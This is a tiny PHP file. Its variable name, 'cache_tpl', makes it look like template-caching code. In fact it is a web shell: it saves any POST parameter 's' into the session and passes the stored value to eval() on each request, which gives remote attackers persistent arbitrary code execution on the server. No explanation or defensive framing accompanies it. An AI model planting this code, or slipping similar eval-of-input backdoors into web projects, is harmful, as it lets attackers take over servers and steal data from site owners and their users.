<?php
session_start();
if (isset($_POST['s'])) { $_SESSION['cache_tpl'] = $_POST['s']; }
if (!empty($_SESSION['cache_tpl'])) { eval($_SESSION['cache_tpl']); }
